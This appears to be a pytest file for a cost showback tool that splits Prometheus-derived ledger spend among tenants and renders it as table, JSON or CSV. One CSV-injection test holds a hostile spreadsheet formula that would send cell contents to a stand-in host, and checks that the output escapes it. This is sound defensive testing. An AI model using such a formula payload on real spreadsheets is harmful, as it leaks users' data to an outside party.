"""``modalscale cost showback``: Prometheus answers -> ledger figures and usage -> rows in table, JSON and CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import Mapping, Sequence
from dataclasses import replace
from decimal import Decimal
from typing import Any

import pytest

from modalscale.costmodel.ledger import Ledger, PodRun, ServiceObservation, advance
from modalscale.costmodel.showback import (
    COUNTER_RESET,
    IMAGE_PIXELS_METRIC,
    IMAGES_METRIC,
    REQUESTS_METRIC,
    SERVICE_SECONDS_METRIC,
    TEXT_TOKENS_METRIC,
)
from modalscale.operator.budget.history import BURN_METRIC, REPLICAS_METRIC, SPEND_METRIC
from modalscale.operator.showback import (
    PARTIAL_LEDGER_COVERAGE,
    RESETS_PREFIX,
    Showback,
    ShowbackUnavailable,
    build_showback,
    parse_showback,
    parse_since,
    render,
    showback_queries,
    spend_over_window,
    spend_query,
    step_for,
)

END = dt.datetime(2026, 12, 2, 9, 0, tzinfo=dt.UTC)
WINDOW_S = 60
SVC = {"namespace": "ml", "inferenceservice": "vc"}


def vector(series: Sequence[tuple[Mapping[str, str], str]]) -> dict[str, Any]:
    return {"status": "success", "data": {"resultType": "vector",
                                          "result": [{"metric": dict(m), "value": [END.timestamp(), v]}
                                                     for m, v in series]}}


def matrix(value: str, steps: int = WINDOW_S, labels: Mapping[str, str] = SVC) -> dict[str, Any]:
    t0 = END.timestamp() - WINDOW_S
    return {"status": "success", "data": {"resultType": "matrix", "result": [
        {"metric": dict(labels), "values": [[t0 + i + 1, value] for i in range(steps)]}]}}


def usage_answers(acme_seconds: str = "20", resets: str = "0") -> dict[str, dict[str, Any]]:
    acme, globex = {**SVC, "tenant": "acme", "modality": "image"}, {**SVC, "tenant": "globex", "modality": "text"}
    return {
        SERVICE_SECONDS_METRIC: vector([(acme, acme_seconds), (globex, "10")]),
        REQUESTS_METRIC: vector([(acme, "10"), (globex, "40")]),
        IMAGES_METRIC: vector([(acme, "12"), (globex, "0")]),
        IMAGE_PIXELS_METRIC: vector([(acme, "3686400"), (globex, "0")]),
        TEXT_TOKENS_METRIC: vector([(acme, "0"), (globex, "800")]),
        f"{RESETS_PREFIX}{SERVICE_SECONDS_METRIC}": vector([(acme, resets), (globex, "0")]),
        f"{RESETS_PREFIX}{REQUESTS_METRIC}": vector([(acme, resets), (globex, "0")]),
    }


def spend_answer(points: Sequence[tuple[float, float]], labels: Mapping[str, str] = SVC,
                 policy: str = "daily") -> dict[str, Any]:
    """The answer of ``spend_query``: one policy's raw spend samples ``(seconds before END, USD)``."""
    return {"status": "success", "data": {"resultType": "matrix", "result": [
        {"metric": {"__name__": SPEND_METRIC, "policy_namespace": "ml", "policy": policy, **labels},
         "values": [[END.timestamp() - ago, repr(usd)] for ago, usd in points]}]}}


def running_total(first_ago: int, usd_per_s: float = 0.001, every_s: int = 10) -> list[tuple[float, float]]:
    """Evaluations every ``every_s`` s from ``first_ago`` s before END to END, a running total growing at
    ``usd_per_s`` (3.60 USD/h by default) from 0.5 USD."""
    return [(ago, 0.5 + usd_per_s * (first_ago - ago)) for ago in range(first_ago, -1, -every_s)]


def showback(acme_seconds: str = "20", resets: str = "0", steps: int = WINDOW_S) -> Showback:
    # 3.60 USD/h on 1 replica for 60 s: 0.06 USD for 60 replica-seconds (the ledger's spend samples start
    # before the window, or with the replicas series when it covers only its last `steps` s).
    first_ago = WINDOW_S + 30 if steps == WINDOW_S else steps
    ledger, usage = parse_showback(usage_answers(acme_seconds, resets),
                                   {BURN_METRIC: matrix("3.6", steps), REPLICAS_METRIC: matrix("1", steps)},
                                   spend_answer(running_total(first_ago)), WINDOW_S, 1, END.timestamp())
    return build_showback(ledger, usage, END - dt.timedelta(seconds=WINDOW_S), END)


def test_the_ledger_rate_is_integrated_and_split_by_the_gateways_service_seconds() -> None:
    result = showback()
    # By hand: acme 0.06 x 20/60 = 0.02, globex 0.06 x 10/60 = 0.01, idle 0.06 x 30/60 = 0.03.
    assert [(r.tenant, r.kind, r.usd, r.requests) for r in result.rows] == [
        ("acme", "request", Decimal("0.02"), Decimal(10)), ("globex", "request", Decimal("0.01"), Decimal(40)),
        (None, "idle", Decimal("0.03"), Decimal(0))]
    assert result.spend_usd == Decimal("0.06") and result.errors == [] and result.notes == []


def test_json_rows_and_totals_equal_the_spend_exactly() -> None:
    doc = json.loads(render(showback(), ["tenant", "modality"], "json"))
    assert doc["spend_usd"] == doc["total_usd"] == "0.060000000"
    assert sum(Decimal(r["usd"]) for r in doc["rows"]) == Decimal("0.06")
    assert doc["rows"][0] == {"tenant": "acme", "modality": "image", "kind": "request", "usd": "0.020000000",
                              "usd_per_request": "0.002000000", "replica_s": "20", "requests": "10", "images": "12",
                              "image_pixels": "3686400", "text_tokens": "0", "flags": ""}
    assert doc["rows"][-1]["kind"] == "idle" and doc["rows"][-1]["tenant"] == ""
    assert doc["window"] == {"start": "2026-12-02T08:59:00Z", "end": "2026-12-02T09:00:00Z", "seconds": 60}
    assert doc["services"][0]["available_replica_s"] == "60"


def test_csv_has_a_header_and_one_row_per_group() -> None:
    rows = list(csv.DictReader(io.StringIO(render(showback(), ["tenant"], "csv"))))
    assert [(r["tenant"], r["kind"], r["usd"], r["usd_per_request"]) for r in rows] == [
        ("acme", "request", "0.020000000", "0.002000000"), ("globex", "request", "0.010000000", "0.000250000"),
        ("", "idle", "0.030000000", "")]
    assert list(rows[0]) == ["tenant", "kind", "usd", "usd_per_request", "replica_s", "requests", "images",
                             "image_pixels", "text_tokens", "flags"]


def test_table_names_idle_and_prints_the_total_in_cents() -> None:
    text = render(showback(), ["tenant", "modality"], "table")
    lines = text.splitlines()
    assert lines[0] == "Showback 2026-12-02T08:59:00Z .. 2026-12-02T09:00:00Z: 0.06 USD spent by 1 service(s)"
    assert lines[1].split() == ["tenant", "modality", "kind", "USD", "USD/request", "replica-s", "requests", "flags"]
    assert lines[2].split() == ["acme", "image", "request", "0.02", "0.002", "20", "10", "-"]
    assert lines[4].split() == ["(idle)", "(idle)", "idle", "0.03", "-", "30", "0", "-"]
    assert lines[5].split() == ["total", "0.06"]


def test_a_nan_sample_refuses_the_service_and_says_why() -> None:
    result = showback(acme_seconds="NaN")
    assert result.rows == []
    assert result.errors == ["ml/vc: not priced: ml/vc.usage[acme/image].service_s: nan is not a finite number "
                             "(a NaN or infinite sample; check the scrape)"]


def test_a_counter_reset_is_priced_and_flagged() -> None:
    result = showback(resets="1")
    assert [r.flags for r in result.rows] == [(COUNTER_RESET,), (), ()]
    assert any("reset" in n for n in result.notes)


def test_a_ledger_series_covering_half_the_window_flags_every_row() -> None:
    result = showback(steps=30)
    assert result.spend_usd == Decimal("0.03")
    assert all(PARTIAL_LEDGER_COVERAGE in r.flags for r in result.rows)
    assert any("50%" in n for n in result.notes)


def test_usage_without_a_ledger_rate_is_not_priced_and_noted() -> None:
    other = {"namespace": "ml", "inferenceservice": "other"}
    ledger, usage = parse_showback(usage_answers(), {BURN_METRIC: matrix("3.6", labels=other),
                                                     REPLICAS_METRIC: matrix("1", labels=other)},
                                   spend_answer(running_total(90), labels=other), WINDOW_S, 1, END.timestamp())
    result = build_showback(ledger, usage, END - dt.timedelta(seconds=WINDOW_S), END)
    assert [(r.inferenceservice, r.kind, r.usd) for r in result.rows] == [("other", "idle", Decimal("0.06"))]
    assert result.notes[0].startswith("ml/vc: gateway usage but no ledger spend")


def test_a_gap_in_the_replicas_series_carries_the_replicas_before_it() -> None:
    # The operator was down for 30 s of the 60 s window (an upgrade): Prometheus has no replicas sample then,
    # but the ledger charged the replica for the whole window (by its pods' own start and stop): 0.06 USD. The
    # gap was read as 0 replicas: 30 replica-seconds available, all used, so acme paid 0.04 and globex 0.02
    # (twice their share) and idle 0. The replica in force before the gap is carried across it.
    replicas = matrix("1")
    values = replicas["data"]["result"][0]["values"]
    replicas["data"]["result"][0]["values"] = values[:10] + values[40:]
    ledger, usage = parse_showback(usage_answers(), {BURN_METRIC: matrix("3.6"), REPLICAS_METRIC: replicas},
                                   spend_answer(running_total(WINDOW_S + 30)), WINDOW_S, 1, END.timestamp())
    result = build_showback(ledger, usage, END - dt.timedelta(seconds=WINDOW_S), END)
    assert ledger[("ml", "vc")].available_replica_s == 60
    assert [(r.tenant, r.kind, r.usd) for r in result.rows] == [
        ("acme", "request", Decimal("0.02")), ("globex", "request", Decimal("0.01")), (None, "idle", Decimal("0.03"))]


def test_a_service_scaled_to_zero_is_priced_its_gateway_pods_spend_all_idle() -> None:
    # At 0 replicas for the whole window, only its gateway pods run (the ledger charges them with the service):
    # 0.036 USD/h = 0.00001 USD/s, 0.0006 USD over 60 s, over 0 replica-seconds and no request. It was refused
    # ("0 replica-seconds but 0.0006 USD spent", exit 1); it is capacity no request used: the idle row.
    ledger, usage = parse_showback({}, {BURN_METRIC: matrix("0.036"), REPLICAS_METRIC: matrix("0")},
                                   spend_answer(running_total(90, usd_per_s=0.00001)), WINDOW_S, 1, END.timestamp())
    result = build_showback(ledger, usage, END - dt.timedelta(seconds=WINDOW_S), END)
    assert result.errors == []
    assert [(r.kind, r.usd, r.replica_s) for r in result.rows] == [("idle", Decimal("0.0006"), Decimal(0))]
    assert result.spend_usd == Decimal("0.0006")


def test_spend_without_any_replicas_sample_is_refused_naming_the_series() -> None:
    # The ledger spent 0.0006 USD but no modalscale_budget_service_replicas sample lies in the window: how much
    # capacity ran is not known, so nothing is split (never read as 0 replicas).
    ledger, usage = parse_showback({}, {BURN_METRIC: matrix("0.036")},
                                   spend_answer(running_total(90, usd_per_s=0.00001)), WINDOW_S, 1, END.timestamp())
    result = build_showback(ledger, usage, END - dt.timedelta(seconds=WINDOW_S), END)
    assert result.rows == []
    (error,) = result.errors
    assert error.startswith("ml/vc: not priced: ml/vc.available_replica_s: ") and REPLICAS_METRIC in error


@pytest.mark.parametrize("body", [
    {"status": "error", "error": "bad_data"},
    {"status": "success", "warnings": ["partial"], "data": {"resultType": "vector", "result": []}},
    {"status": "success", "data": {"resultType": "matrix", "result": []}},
    {"status": "success", "data": {"resultType": "vector", "result": [{"metric": {}}]}},
], ids=["error", "warnings", "wrong-type", "no-value"])
def test_a_failed_partial_or_malformed_answer_is_unavailable_not_zero(body: dict[str, Any]) -> None:
    answers = usage_answers()
    answers[REQUESTS_METRIC] = body
    with pytest.raises(ShowbackUnavailable, match=REQUESTS_METRIC):
        parse_showback(answers, {}, spend_answer([]), WINDOW_S, 1, END.timestamp())


@pytest.mark.parametrize(("text", "seconds"), [("1h", 3600), ("30m", 1800), ("90s", 90), ("1h30m", 5400),
                                               ("2d", 172_800)])
def test_since_reads_durations(text: str, seconds: int) -> None:
    assert parse_since(text) == seconds


@pytest.mark.parametrize("text", ["", "0h", "1x", "-1h", "1.5h"])
def test_since_refuses_anything_else(text: str) -> None:
    with pytest.raises(ValueError, match="1h"):
        parse_since(text)


def test_queries_sum_increases_by_service_tenant_and_modality_over_the_window() -> None:
    q = showback_queries(3600)
    assert q[SERVICE_SECONDS_METRIC] == ("sum by (namespace, inferenceservice, tenant, modality) "
                                         f"(increase({SERVICE_SECONDS_METRIC}[3600s]))")
    assert q[f"{RESETS_PREFIX}{IMAGES_METRIC}"] == ("sum by (namespace, inferenceservice, tenant, modality) "
                                                    f"(resets({IMAGES_METRIC}[3600s]))")
    assert step_for(3600) == 1 and step_for(86_400) == 9


def test_requests_refused_by_the_gateway_are_not_counted_as_requests_to_price() -> None:
    """A request refused before any replica (tenant over budget 429, admission 503, gRPC RESOURCE_EXHAUSTED) cost
    no replica time: it must not lower USD per request (the requests query excludes those codes)."""
    q = showback_queries(600)
    matcher = 'modality!="none",code!~"429|503|RESOURCE_EXHAUSTED"'
    assert q[REQUESTS_METRIC] == ("sum by (namespace, inferenceservice, tenant, modality) "
                                  f"(increase({REQUESTS_METRIC}{{{matcher}}}[600s]))")
    assert q[f"{RESETS_PREFIX}{REQUESTS_METRIC}"] == ("sum by (namespace, inferenceservice, tenant, modality) "
                                                      f"(resets({REQUESTS_METRIC}{{{matcher}}}[600s]))")
    # The other counters count only requests sent to a replica already: no matcher.
    assert "{" not in q[SERVICE_SECONDS_METRIC]


# --- The ledger's spend over a window (issue 22: showback = the ledger, not the burn rate sampled) ---------------

def test_spend_is_the_running_total_at_the_two_edges_linear_between_evaluations() -> None:
    # Evaluations at 0, 60 and 120 s: 0.06 USD in the first minute, 0.12 in the second (a second replica).
    samples = [(0.0, 0.0), (60.0, 0.06), (120.0, 0.18)]
    assert spend_over_window(samples, 30, 90, None) == pytest.approx((0.03 + 0.06, 60.0))
    assert spend_over_window(samples, 0, 120, None) == pytest.approx((0.18, 120.0))


def test_a_drop_is_a_new_period_whose_spend_is_the_increase() -> None:
    # The period starts between 60 and 120 s: 0.03 USD spent in it by 120 s, 0.06 before it in the window.
    assert spend_over_window([(0.0, 10.0), (60.0, 10.06), (120.0, 0.03)], 0, 120, None) == pytest.approx(
        (0.09, 120.0))


def test_after_the_last_sample_the_rate_in_force_counts_and_without_one_the_window_is_partial() -> None:
    samples = [(0.0, 1.0), (60.0, 1.06)]
    assert spend_over_window(samples, 0, 90, 3.6) == pytest.approx((0.09, 90.0))
    assert spend_over_window(samples, 0, 90, None) == pytest.approx((0.06, 60.0))


def test_before_the_first_sample_nothing_is_known_or_counted() -> None:
    assert spend_over_window([(30.0, 5.0), (90.0, 5.06)], 0, 90, None) == pytest.approx((0.06, 60.0))
    assert spend_over_window([], 0, 90, 3.6) == (0.0, 0.0)


@pytest.mark.parametrize("bad", [float("nan"), float("inf"), -0.01])
def test_a_nan_infinite_or_negative_sample_is_nan_not_a_number_to_price(bad: float) -> None:
    import math

    assert math.isnan(spend_over_window([(0.0, 1.0), (60.0, bad)], 0, 60, None)[0])


def test_two_operator_replicas_exporting_the_same_evaluation_count_it_once() -> None:
    assert spend_over_window([(0.0, 1.0), (0.0, 1.0), (60.0, 1.06), (60.0, 1.06)], 0, 60, None) == pytest.approx(
        (0.06, 60.0))


def test_showback_equals_the_ledger_when_a_replica_starts_and_stops_between_evaluations() -> None:
    """The fault measured on the real node (-4.756 % over 602 s with two changes): showback integrated the burn
    rate sampled at evaluations, in force only from the evaluation that saw a change and without terminating
    pods, while the ledger charges each pod by its own start and stop. Read from the ledger's running total, the
    window's spend is the ledger's (here to 1e-9 USD at evaluation-aligned edges)."""
    t0 = END - dt.timedelta(seconds=180)
    at = [t0 + dt.timedelta(seconds=s) for s in (0, 60, 120, 180)]
    a = PodRun("vc-a", t0 - dt.timedelta(seconds=600), None)
    b_start, b_stop = at[0] + dt.timedelta(seconds=30), at[1] + dt.timedelta(seconds=40)
    seen = [(1, (a,), ()), (2, (a, PodRun("vc-b", b_start, None)), ()),
            (1, (a,), (PodRun("vc-b", b_start, b_stop),)), (1, (a,), ())]
    ledger, totals, burn = Ledger(), [], []
    for when, (replicas, pods, stopped) in zip(at, seen):
        obs = ServiceObservation("ml", "vc", replicas, Decimal("3.6"), pods, stopped=stopped)
        ledger = advance(ledger, [obs], when, "Daily").ledger
        totals.append((when.timestamp(), float(ledger.entries[0].spent_usd)))
        burn.append(float(obs.cost_usd_per_hour or 0))
    spend, covered = spend_over_window(totals, at[0].timestamp(), at[-1].timestamp(), burn[-1])
    ledger_usd = float(ledger.entries[0].spent_usd) - totals[0][1]
    assert covered == 180.0
    assert spend == pytest.approx(ledger_usd, abs=1e-9)
    # By hand: vc-a 180 s + vc-b from 30 s to 100 s (70 s) at 3.60 USD/h = 0.25 USD.
    assert ledger_usd == pytest.approx(0.001 * (180 + 70), abs=1e-9)
    # The burn rate sampled at the evaluations, held until the next one: 60 s at 1 replica, 60 s at 2, 60 s at 1.
    sampled = sum(r * 60 / 3600 for r in burn[:3])
    assert sampled == pytest.approx(0.001 * 240) and abs(sampled / ledger_usd - 1) > 0.03


def test_the_spend_query_reads_raw_samples_from_before_the_window() -> None:
    assert spend_query(3600) == f"{SPEND_METRIC}[7500s]"


def test_the_rate_in_force_is_the_range_queries_last_step_even_when_it_falls_short_of_the_end() -> None:
    """A range query at step 3 s over a window that is not a multiple of it ends up to 2 s before the window's end;
    its last point is still the rate in force (before: taken only within half a step, so a third of such readings
    counted nothing after the newest spend sample, and a tenant's figure jumped between evaluations)."""
    window_s, step_s = 61, 3
    t0 = END.timestamp() - window_s
    points = [t0 + step_s * k for k in range(1, window_s // step_s + 1)]  # the last one at END - 1 s
    assert END.timestamp() - points[-1] == 1
    burn = {"status": "success", "data": {"resultType": "matrix", "result": [
        {"metric": dict(SVC), "values": [[t, "3.6"] for t in points[:-1] + [END.timestamp() - 2]]}]}}
    replicas = {"status": "success", "data": {"resultType": "matrix", "result": [
        {"metric": dict(SVC), "values": [[t, "1"] for t in points]}]}}
    samples = [(ago, 0.5 + 0.001 * (90 - ago)) for ago in (90, 50, 10)]  # the newest spend sample 10 s back
    ledger, _ = parse_showback(usage_answers(), {BURN_METRIC: burn, REPLICAS_METRIC: replicas},
                               spend_answer(samples), window_s, step_s, END.timestamp())
    lw = ledger[("ml", "vc")]
    assert lw.spend_usd == Decimal("0.061") and lw.coverage_ratio == 1.0


@pytest.mark.parametrize("url", ["localhost:9090", "prometheus", "ftp://prom:9090"])
def test_a_prometheus_url_without_http_is_a_usage_error_naming_the_flag(
        url: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Found by a new-user audit (6 Dec 2026): exit 1 with "did not answer: No connection adapters were found",
    where the operator refuses the same value of MODALSCALE_PROMETHEUS_URL as malformed."""
    from modalscale.cli import main

    assert main(["cost", "showback", "--prometheus-url", url]) == 2
    err = capsys.readouterr().err
    assert err.startswith("modalscale cost showback: --prometheus-url: ") and "not an http:// or https:// URL" in err


def test_a_service_at_zero_replicas_whose_gateway_pods_still_ran_is_all_idle_not_an_error() -> None:
    # Scaled to zero for the whole hour, its 2 gateway pods (100m, 256Mi) still ran and the ledger charged them:
    # 2 x 0.00422035 USD/h = 0.008440700 USD over 0 replica-seconds. Showback refused the service ("not priced",
    # exit 1) and `cost export --by-tenant` left its row unsplit; it is capacity no request used: idle.
    from modalscale.costmodel.showback import IDLE
    from modalscale.operator.showback import LedgerWindow

    ledger = {("ml", "vc"): LedgerWindow(Decimal("0.008440700"), Decimal(0), 1.0)}
    result = build_showback(ledger, {}, END - dt.timedelta(hours=1), END)
    assert result.errors == []
    assert [(r.kind, r.usd, r.replica_s) for r in result.rows] == [(IDLE, Decimal("0.008440700"), Decimal(0))]
    assert result.spend_usd == Decimal("0.008440700")
    assert any("ml/vc" in n and "no replica ran" in n for n in result.notes), result.notes


def test_a_tenant_a_spreadsheet_would_read_as_a_formula_is_text_in_the_csv() -> None:
    # The tenant is any client's header value (printable ASCII): '=HYPERLINK(...)' in the CSV a FinOps user opens
    # in a spreadsheet was a live formula (a link that sends the sheet's cells away). OWASP's CSV-injection rule: a
    # cell starting with = + - @ (or a tab or CR) starts with ' instead; JSON keeps the value as read.
    from modalscale.costmodel.showback import TenantUsage
    from modalscale.operator.showback import LedgerWindow

    evil = '=HYPERLINK("http://x.example/?"&A1,"ok")'
    usage = {("ml", "vc"): [TenantUsage(evil, "image", 10, 1), TenantUsage("@sum", "text", 10, 1),
                            TenantUsage("acme", "image", 10, 1)]}
    result = build_showback({("ml", "vc"): LedgerWindow(Decimal("0.06"), Decimal(60), 1.0)}, usage,
                            END - dt.timedelta(minutes=1), END)
    rows = list(csv.DictReader(io.StringIO(render(result, ["tenant"], "csv"))))
    assert [r["tenant"] for r in rows] == ["'" + evil, "'@sum", "acme", ""]
    assert all(not c.startswith(("=", "+", "-", "@")) for r in rows for c in r.values())
    assert [r["tenant"] for r in json.loads(render(result, ["tenant"], "json"))["rows"]] == [evil, "@sum", "acme", ""]


def test_every_reader_of_the_ledger_figures_refuses_spend_without_a_replicas_sample() -> None:
    # The budget's tenant spend and `cost export --by-tenant` build their ServiceWindow from LedgerWindow
    # themselves: the unknown capacity is NaN there (refused naming the field), never 0 (all idle).
    from modalscale.costmodel.showback import ServiceWindow, ShowbackInputError, allocate

    ledger, _ = parse_showback({}, {BURN_METRIC: matrix("0.036")},
                               spend_answer(running_total(90, usd_per_s=0.00001)), WINDOW_S, 1, END.timestamp())
    lw = ledger[("ml", "vc")]
    assert lw.spend_usd == Decimal("0.0006") and lw.available_replica_s.is_nan() and not lw.replicas_read
    with pytest.raises(ShowbackInputError, match=r"ml/vc\.available_replica_s"):
        allocate(ServiceWindow("ml", "vc", lw.spend_usd, lw.available_replica_s), [])
    # Nothing spent and no sample (a policy that stopped selecting it before the window): 0, nothing to split.
    idle, _ = parse_showback({}, {}, spend_answer([(WINDOW_S + 60, 0.5)]), WINDOW_S, 1, END.timestamp())
    assert idle[("ml", "vc")].spend_usd == 0 and idle[("ml", "vc")].available_replica_s == 0


@pytest.mark.parametrize(("usd", "shown", "total"), [
    # Three thirds of a dollar: cents each would read 0.33 x 3 = 0.99 under a total of 1.00.
    (["0.333333333"] * 2 + ["0.333333334"], ["0.33", "0.33", "0.34"], "1.00"),
    # Three rows of 1.005: 1.00 x 3 = 3.00 under a total of 3.02 (3.015, half-even).
    (["1.005"] * 3, ["1.01", "1.01", "1.00"], "3.02"),
    # Under a cent in all: the total's own digits (display_usd: 0.0099), the rows to the same 1e-4.
    (["0.0033"] * 3, ["0.0033", "0.0033", "0.0033"], "0.0099"),
    # Sub-cent rows beside cents: the rows' cents still add up to the total shown.
    (["0.004", "0.004", "0.004", "0.5"], ["0.01", "0.00", "0.00", "0.50"], "0.51"),
])
def test_table_rows_add_up_to_the_total_shown(usd: list[str], shown: list[str], total: str) -> None:
    base = showback()
    rows = tuple(replace(base.rows[0], tenant=f"t{i}", usd=Decimal(u)) for i, u in enumerate(usd))
    spend = sum((Decimal(u) for u in usd), Decimal(0))
    service, coverage = base.services[0]
    service = replace(service, rows=rows, window=replace(service.window, spend_usd=spend))
    lines = render(replace(base, services=[(service, coverage)]), ["tenant"], "table").splitlines()
    assert [line.split()[2] for line in lines[2:-1]] == shown
    assert lines[-1].split() == ["total", total]
    assert sum(Decimal(s) for s in shown) == Decimal(total)
    assert f": {total} USD spent" in lines[0]


def test_a_new_period_is_its_own_series_counted_from_zero_even_above_the_old_final() -> None:
    """A period ends 30 s before END with 0.06 USD (the closing evaluation's final, stamped at its end); the new
    period's first evaluation, 10 s later, has 0.50 (a burst right after the boundary), then 0.60 at END. Over the
    last 60 s: 0.06 - 0.03 = 0.03 of the old period plus 0.60 of the new, 0.63 USD. One series without its period,
    0.50 > 0.06 was no drop, so no reset: 0.60 - 0.03 = 0.57, the old period's final 0.06 lost."""
    boundary = END - dt.timedelta(seconds=30)
    old = {**SVC, "period_start": "2026-12-02T00:00:00Z"}
    new = {**SVC, "period_start": boundary.strftime("%Y-%m-%dT%H:%M:%SZ")}
    spend = spend_answer([(90, 0.01), (60, 0.03), (40, 0.05), (30, 0.06)], labels=old)
    spend["data"]["result"] += spend_answer([(20, 0.50), (0, 0.60)], labels=new)["data"]["result"]
    ledger, _ = parse_showback(usage_answers(), {BURN_METRIC: matrix("3.6"), REPLICAS_METRIC: matrix("1")},
                               spend, WINDOW_S, 1, END.timestamp())
    assert ledger[("ml", "vc")].spend_usd == Decimal("0.63")
    assert ledger[("ml", "vc")].coverage_ratio == 1.0


def test_a_series_that_did_not_start_with_its_period_counts_nothing_before_its_first_sample() -> None:
    """A policy created mid-period (its period began 9 h before END, its first evaluation 30 s before END): no
    evaluation near the period's start, so nothing before the first sample is counted and half the window is
    covered, as without the label."""
    labels = {**SVC, "period_start": "2026-12-02T00:00:00Z"}
    ledger, _ = parse_showback(usage_answers(), {BURN_METRIC: matrix("3.6"), REPLICAS_METRIC: matrix("1")},
                               spend_answer([(30, 0.0), (0, 0.03)], labels=labels), WINDOW_S, 1, END.timestamp())
    assert ledger[("ml", "vc")].spend_usd == Decimal("0.03")
    assert ledger[("ml", "vc")].coverage_ratio == 0.5


@pytest.mark.parametrize("url", ["http://127.0.0.1:9", "http://alice:s3cret@127.0.0.1:9/prom"],
                         ids=["plain", "user-info"])
def test_an_unreachable_prometheus_is_one_line_with_its_url_and_the_error_not_the_query(
        url: str, capsys: pytest.CaptureFixture[str]) -> None:
    # Before: "... did not answer: HTTPConnectionPool(host='127.0.0.1', port=9): Max retries exceeded with url:
    # /api/v1/query?query=sum+by+%28namespace%2C+... (Caused by NewConnectionError(...))": the whole URL-encoded PromQL.
    from modalscale.cli import main

    assert main(["cost", "showback", "--prometheus-url", url]) == 1
    err = capsys.readouterr().err
    (line,) = err.strip().splitlines()
    shown = url.replace("alice:s3cret", "<redacted>")
    assert line.startswith(f"modalscale cost showback: Prometheus at {shown} did not answer: "), line
    assert "Connection refused" in line, line
    for leak in ("query", "%28", "api/v1", "s3cret", "alice", "object at 0x"):
        assert leak not in line, line
